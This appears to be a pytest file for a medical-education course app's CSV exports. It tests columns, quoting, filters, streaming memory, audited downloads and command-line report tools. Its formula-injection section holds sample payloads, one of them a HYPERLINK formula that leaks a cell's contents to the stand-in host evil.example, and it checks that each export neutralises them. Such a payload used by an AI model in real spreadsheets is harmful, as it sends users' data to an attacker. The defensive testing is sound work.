"""Exports: columns, formula-injection neutralisation, MOC consent, filters, streaming in bounded memory,
the download routes and the `flask reports` commands, each audited."""
import csv
import io
import json
import sys
import tracemalloc
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from sqlalchemy import insert, select, update

from accounts.audit import AuditEntry
from course.content.store import current_catalogue
from course.core.extensions import db
from course.core.operator import host, os_user
from accounts.models import User
from credits.models import Certificate, EvaluationResponse
from reports.exports import COMPLETION_COLUMNS, EXPORTS, ReportFilters, completions_csv, evaluations_csv
from reports.tables import neutralise
from tests.factories import (
    certificate_fields, complete_course, csrf_token, make_attempt, make_certificate, make_user, sign_in_as,
    submit_evaluation,
)

EVALUATION_ITEMS = ("objective-first-objective", "time-spent", "change", "intent")


def rows_of(lines) -> list[list[str]]:
    """The CSV's rows, after checking it starts with the byte-order mark Excel needs to read UTF-8."""
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def completion_rows(filters=ReportFilters()) -> list[dict[str, str]]:
    header, *rows = rows_of(completions_csv(db.session, filters))
    return [dict(zip(header, row, strict=True)) for row in rows]


def pass_objective(user, objective_id: str, score: int, total: int = 5, passed: bool = True):
    attempt = make_attempt(user, objective_id, score=score, total=total, submitted_at=datetime(2025, 7, 29, tzinfo=UTC))
    assert attempt.passed is passed


# --- Columns and content ------------------------------------------------------------------


def test_completions_csv_has_one_row_per_certificate_with_every_column(app):
    learner = make_user(email="pat@example.org", name="Pat Example", profession="physician",
                        licences=[("NY", "MD-1"), ("CA", "A-2")])
    complete_course(learner)
    submit_evaluation(learner)
    pass_objective(learner, "first-objective", 3, passed=False)
    pass_objective(learner, "first-objective", 4)
    pass_objective(learner, "first-objective", 5)
    pass_objective(learner, "second-objective", 4)
    certificate = make_certificate(learner, approval_id="ama-pra", amount="0.75")
    revoked = make_certificate(learner, approval_id="ipce", status="revoked")
    unevaluated = make_user(email="kim@example.org", name="Kim Nurse", profession="nurse")
    make_certificate(unevaluated, approval_id="ancc")

    header, *_ = rows_of(completions_csv(db.session, ReportFilters()))
    assert tuple(header[:len(COMPLETION_COLUMNS)]) == COMPLETION_COLUMNS == (
        "learner", "email", "profession", "licences", "course", "completion_date", "objective_scores",
        "evaluation_submitted", "body", "credit_type", "amount", "unit", "certificate_code", "status",
        "course_title", "issue_date", "approval_number", "provider_number", "pharmacology_hours",
    )
    assert tuple(header[len(COMPLETION_COLUMNS):]) == ("licence_CA", "licence_NY")  # the states learners hold
    rows = {row["certificate_code"]: row for row in completion_rows()}
    assert len(rows) == 3
    assert rows[certificate.code] == {
        "learner": "Pat Example", "email": "pat@example.org", "profession": "physician",
        "licences": "NY MD-1; CA A-2", "course": "sample-course", "completion_date": "2025-07-29",
        "objective_scores": "first-objective: 100; second-objective: 80", "evaluation_submitted": "yes",
        "body": "Accreditation Council for Continuing Medical Education (ACCME)", "credit_type": "ama-pra",
        "amount": "0.75", "unit": "AMA PRA Category 1 Credit™", "certificate_code": certificate.code, "status": "valid",
        "course_title": "Sample Course on Depression Care", "issue_date": "2025-07-29", "approval_number": "",
        "provider_number": "", "pharmacology_hours": "", "licence_CA": "A-2", "licence_NY": "MD-1",
    }
    assert rows[revoked.code]["status"] == "revoked"
    kim = next(row for row in rows.values() if row["email"] == "kim@example.org")
    assert (kim["evaluation_submitted"], kim["objective_scores"], kim["licences"]) == ("no", "", "")


def test_completions_export_names_the_approval_the_provider_number_and_each_states_licence(app):
    """Issue dates are the provider's day; CE Broker's provider number and pharmacology hours come with the row."""
    nurse = make_user(email="fay@example.org", name="Fay Nurse", profession="nurse",
                      licences=[("FL", "RN9123456"), ("FL", "PN5123456"), ("TX", "T-1")])
    certificate = make_certificate(nurse, approval_id="nursing-fl", approval_number="50-0000",
                                   approval_body="Florida Board of Nursing", unit="contact hour",
                                   pharmacology_hours=Decimal("0.5"),
                                   issued_at=datetime(2025, 7, 30, 1, 10, tzinfo=UTC))
    provider = replace(current_catalogue().provider, time_zone="America/Los_Angeles")
    header, *rows = rows_of(completions_csv(db.session, ReportFilters(), provider))
    (row,) = [dict(zip(header, row, strict=True)) for row in rows]
    assert (row["certificate_code"], row["issue_date"], row["approval_number"], row["provider_number"],
            row["pharmacology_hours"]) == (certificate.code, "2025-07-29", "50-0000", "50-0000", "0.5")
    assert (row["licence_FL"], row["licence_TX"]) == ("RN9123456; PN5123456", "T-1")


def test_completions_csv_is_rfc_4180(app):
    learner = make_user(name="Placeholder")
    make_certificate(learner)
    db.session.execute(update(Certificate).values(learner_name='O"Brien, Pat\nSecond line'))
    db.session.commit()
    text = "".join(completions_csv(db.session, ReportFilters()))
    assert text.count("\r\n") == 2  # header and row end in CRLF; the name's line break stays inside its quotes
    assert '"O""Brien, Pat\nSecond line"' in text
    assert completion_rows()[0]["learner"] == 'O"Brien, Pat\nSecond line'


def test_evaluations_csv_has_a_column_per_item_for_one_course(app):
    learner = make_user(email="eve@example.org", name="Eve Learner")
    complete_course(learner)
    submit_evaluation(learner, answers={"objective-first-objective": "Agree", "time-spent": 45,
                                        "change": "=1+2", "retired-item": "old"})
    per_item = rows_of(evaluations_csv(db.session, ReportFilters(course="sample-course"),
                                       app.extensions["content"].catalogue().courses["sample-course"].evaluation))
    assert per_item[0] == ["learner", "email", "course", "submitted_on", *EVALUATION_ITEMS, "other_answers"]
    assert per_item[1][:4] == ["Eve Learner", "eve@example.org", "sample-course", per_item[1][3]]
    assert per_item[1][4:] == ["Agree", "45", "'=1+2", "", '{"retired-item": "old"}']

    header, row = rows_of(evaluations_csv(db.session, ReportFilters()))
    assert header == ["learner", "email", "course", "submitted_on", "answers"]
    assert json.loads(row[4]) == {"objective-first-objective": "Agree", "time-spent": 45, "change": "=1+2",
                                  "retired-item": "old"}


# --- Formula injection --------------------------------------------------------------------

DANGEROUS_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2", "@x", "\tx", "\rx"]


@pytest.mark.parametrize("cell", [*DANGEROUS_NAMES, "=", "-", "@"])
def test_neutralise_puts_an_apostrophe_before_a_formula(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Pat", "0.75", "2025-07-29", "'quoted", " =spaced", "a=b"])
def test_neutralise_leaves_other_cells_alone(cell):
    assert neutralise(cell) == cell


def test_every_export_neutralises_formula_cells(app):
    for index, name in enumerate(DANGEROUS_NAMES):
        learner = make_user(email=f"danger{index}@example.org", name="Placeholder",
                            board_ids=[("ABIM", f"{index}")], birth_month=1, birth_day=1)
        learner.name = name  # registration strips whitespace; a name can still reach the database like this
        db.session.commit()
        make_certificate(learner, approval_id="moc-abim", moc_consent=True)
        complete_course(learner)
        submit_evaluation(learner, answers={"change": name})

    learners = sorted(row["learner"] for row in completion_rows())
    assert learners == sorted("'" + name for name in DANGEROUS_NAMES)
    # Codes issued before new_code() stopped drawing a leading "-" may still have one; no column is exempt.
    legacy = make_certificate(learner, approval_id="ama-pra")
    legacy.code = "-legacyCodeFromBeforeTheFix0000"
    db.session.commit()
    assert {row["certificate_code"] for row in completion_rows()} >= {"'-legacyCodeFromBeforeTheFix0000"}
    evaluation_rows = rows_of(evaluations_csv(db.session, ReportFilters()))[1:]
    assert sorted(row[0] for row in evaluation_rows) == sorted("'" + name for name in DANGEROUS_NAMES)
    for row in rows_of(completions_csv(db.session, ReportFilters())) + evaluation_rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


# --- Filters ------------------------------------------------------------------------------


@pytest.fixture
def varied_certificates(app) -> dict[str, Certificate]:
    """Certificates that differ in one filter each from `ny_physician_july`."""
    ny_physician = make_user(email="ny@example.org", name="Nia York", profession="physician",
                             licences=[("NY", "1")], board_ids=[("ABIM", "111")], birth_month=2, birth_day=3)
    ca_nurse = make_user(email="ca@example.org", name="Cal Nurse", profession="nurse", licences=[("CA", "2")])
    certificates = {
        "ny_physician_july": make_certificate(ny_physician, completed_on=date(2025, 7, 29)),
        "ny_physician_moc": make_certificate(ny_physician, approval_id="moc-abim", moc_consent=True,
                                             completed_on=date(2025, 7, 29)),
        "other_course": make_certificate(ny_physician, course_slug="other-course", completed_on=date(2025, 8, 15)),
        "ca_nurse_september": make_certificate(ca_nurse, approval_id="ancc", completed_on=date(2025, 9, 10)),
    }
    for user in (ny_physician, ca_nurse):
        complete_course(user)
        submit_evaluation(user)
    return certificates


@pytest.mark.parametrize(("filters", "expected"), [
    (ReportFilters(), {"ny_physician_july", "ny_physician_moc", "other_course", "ca_nurse_september"}),
    (ReportFilters(since=date(2025, 8, 15)), {"other_course", "ca_nurse_september"}),
    (ReportFilters(until=date(2025, 8, 15)), {"ny_physician_july", "ny_physician_moc", "other_course"}),
    (ReportFilters(since=date(2025, 7, 30), until=date(2025, 9, 9)), {"other_course"}),
    (ReportFilters(course="other-course"), {"other_course"}),
    (ReportFilters(body="ancc"), {"ca_nurse_september"}),
    (ReportFilters(profession="nurse"), {"ca_nurse_september"}),
    (ReportFilters(state="NY"), {"ny_physician_july", "ny_physician_moc", "other_course"}),
    (ReportFilters(state="NY", body="moc-abim"), {"ny_physician_moc"}),
    (ReportFilters(state="TX"), set()),
])
def test_completions_filters(varied_certificates, filters, expected):
    codes = {row["certificate_code"] for row in completion_rows(filters)}
    assert codes == {varied_certificates[key].code for key in expected}


def test_evaluation_filters(varied_certificates):
    emails = lambda filters: [row[1] for row in rows_of(evaluations_csv(db.session, filters))[1:]]  # noqa: E731
    assert sorted(emails(ReportFilters())) == ["ca@example.org", "ny@example.org"]
    assert emails(ReportFilters(profession="nurse")) == ["ca@example.org"]
    assert emails(ReportFilters(body="moc-abim")) == ["ny@example.org"]
    assert emails(ReportFilters(state="CA")) == ["ca@example.org"]
    assert emails(ReportFilters(course="other-course")) == []
    assert emails(ReportFilters(until=date(2000, 1, 1))) == []


# --- Streaming in bounded memory ----------------------------------------------------------


def add_bulk_certificates(count: int, first: int) -> None:
    """`count` learners with a licence, an evaluation and a certificate each, inserted in bulk."""
    users = [{"email": f"bulk{n}@example.org", "name": f"Bulk Learner {n}", "password_hash": "x", "role": "learner",
              "profession": "physician"} for n in range(first, first + count)]
    db.session.execute(insert(User), users)
    ids = list(db.session.scalars(select(User.id).where(User.email.like("bulk%")).order_by(User.id)))[-count:]
    db.session.execute(insert(Certificate), [certificate_fields(user_id, f"Bulk Learner {user_id}") for user_id in ids])
    db.session.execute(insert(EvaluationResponse), [
        {"user_id": user_id, "course_slug": "sample-course", "answers": {"time-spent": 30}, "content_version": "t"}
        for user_id in ids
    ])
    db.session.commit()


BATCH_SIZE = 500  # smaller than the default, so a fast test still spans many chunks


def peak_memory_while_exporting() -> tuple[int, int, int]:
    """(peak bytes allocated, lines, bytes a list of every line would hold) while consuming the completions export.

    A first, unmeasured run fills the statement caches, which are not per row.
    """
    for _ in completions_csv(db.session, ReportFilters(), batch_size=BATCH_SIZE):
        pass
    lines = held = 0
    tracemalloc.start()
    try:
        for line in completions_csv(db.session, ReportFilters(), batch_size=BATCH_SIZE):
            lines += 1
            held += sys.getsizeof(line)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return peak, lines, held


def test_completions_export_streams_in_bounded_memory(app):
    """Four times the rows must not take four times the memory: the export holds one chunk at a time.

    bench/ measures the same with the default chunk size and many more rows.
    """
    add_bulk_certificates(2_500, first=0)
    small_peak, small_lines, _ = peak_memory_while_exporting()
    add_bulk_certificates(7_500, first=2_500)
    large_peak, large_lines, large_held = peak_memory_while_exporting()

    assert (small_lines, large_lines) == (2_501, 10_001)
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)
    assert large_peak < large_held / 2, (large_peak, large_held)  # well under a list of every line


# --- Downloads from the browser -----------------------------------------------------------


def export_entries() -> list[AuditEntry]:
    db.session.expire_all()
    return list(db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)))


@pytest.mark.parametrize(("report", "media_type"), [
    ("completions.csv", "text/csv; charset=utf-8"),
    ("evaluations.csv", "text/csv; charset=utf-8"),
])
def test_downloads_are_streamed_attachments_and_audited(client, varied_certificates, report, media_type):
    app = client.application
    app.config["CLOCK"] = lambda: datetime(2026, 11, 21, 12, tzinfo=UTC)
    admin = sign_in_as(client, "admin")
    token = csrf_token(client, "/admin/completions")
    response = client.post(f"/admin/exports/{report}?state=NY&since=2025-07-01", data={"csrf_token": token})
    assert response.status_code == 200
    assert response.is_streamed
    assert response.headers["Content-Type"] == media_type
    name, extension = report.split(".")
    assert response.headers["Content-Disposition"] == f'attachment; filename="{name}-2026-11-21.{extension}"'
    assert "no-store" in response.headers["Cache-Control"]
    filters = ReportFilters(since=date(2025, 7, 1), state="NY")
    catalogue = app.extensions["content"].catalogue()
    assert response.get_data(as_text=True) == "".join(EXPORTS[name].write(db.session, filters, catalogue))

    (entry,) = export_entries()
    assert (entry.actor_id, entry.target_type, entry.target_id) == (admin.id, "report", name)
    assert entry.details == {"filters": {"since": "2025-07-01", "state": "NY"}, "via": "web"}


def test_a_download_with_bad_filters_is_refused_and_not_audited(client):
    sign_in_as(client, "admin")
    token = csrf_token(client, "/admin/completions")
    response = client.post("/admin/exports/completions.csv?since=2025-02-30", data={"csrf_token": token})
    assert response.status_code == 400
    assert export_entries() == []


def test_the_report_page_offers_downloads_with_its_filters(client, varied_certificates):
    sign_in_as(client, "admin")
    page = client.get("/admin/completions?body=ancc&page=1&name=not-a-filter").get_data(as_text=True)
    for report in ("completions.csv", "evaluations.csv"):
        assert f'action="/admin/exports/{report}?body=ancc"' in page


# --- The same from the command line -------------------------------------------------------


@pytest.mark.parametrize(("report", "rows"), [("completions", 3), ("evaluations", 2)])
def test_each_report_from_the_command_line_to_stdout_and_to_a_file(runner, varied_certificates, tmp_path, report, rows):
    arguments = ["reports", report, "--since", "2025-07-01", "--course", "sample-course"]
    to_stdout = runner.invoke(args=arguments)
    assert to_stdout.exit_code == 0, to_stdout.output
    output = tmp_path / f"{report}.out"
    to_file = runner.invoke(args=[*arguments, "-o", str(output)])
    assert to_file.exit_code == 0, to_file.output
    assert to_file.stdout == ""
    assert f"Wrote {rows} row(s) to {output}" in to_file.stderr
    assert output.read_bytes() == to_stdout.stdout_bytes
    assert output.read_bytes().count(b"\r\n") == 1 + rows

    first, second = export_entries()
    assert (first.actor_id, first.target_id) == (None, report)
    assert first.details == {"filters": {"since": "2025-07-01", "course": "sample-course"}, "via": "command line",
                             "output": "standard output", "os_user": os_user(), "host": host()}
    assert second.details["output"] == str(output)


@pytest.mark.parametrize(("arguments", "message"), [
    (["--since", "2025-13-01"], "'2025-13-01' is not a date written YYYY-MM-DD"),
    (["--until", "yesterday"], "'yesterday' is not a date written YYYY-MM-DD"),
    (["--since", "2025-08-01", "--until", "2025-07-01"], "2025-07-01 is before --since 2025-08-01"),
])
def test_bad_dates_on_the_command_line_exit_2_with_a_clear_message(runner, arguments, message):
    result = runner.invoke(args=["reports", "completions", *arguments])
    assert result.exit_code == 2
    assert message in result.stderr
    assert export_entries() == []


@pytest.mark.parametrize(("arguments", "message"), [
    (["--course", "sample-cuorse"], "'sample-cuorse' is not a known course. Valid values: sample-course"),
    (["--body", "moc_abim"], "'moc_abim' is not a known body. Valid values: ama-pra, ancc,"),
    (["--profession", "doctor"], "'doctor' is not a known profession. Valid values: "),
    (["--state", "zz"], "'ZZ' is not a known state. Valid values: AK, AL,"),
])
@pytest.mark.parametrize("report", ["completions", "evaluations"])
def test_unknown_filter_values_on_the_command_line_are_refused_naming_the_valid_ones(runner, report, arguments, message):
    result = runner.invoke(args=["reports", report, *arguments])
    assert result.exit_code == 2
    assert message in " ".join(result.stderr.split())
    assert "physician" in result.stderr or "--profession" not in arguments
    assert result.stdout == ""
    assert export_entries() == []


def test_a_lower_case_state_on_the_command_line_means_that_state(runner):
    nurse = make_user(email="ny@example.org", name="Nell York", profession="nurse", licences=[("NY", "RN-1")])
    complete_course(nurse)
    make_certificate(nurse, approval_id="ancc")
    result = runner.invoke(args=["reports", "completions", "--state", "ny"])
    assert result.exit_code == 0, result.stderr
    assert "ny@example.org" in result.stdout
    assert export_entries()[0].details["filters"] == {"state": "NY"}
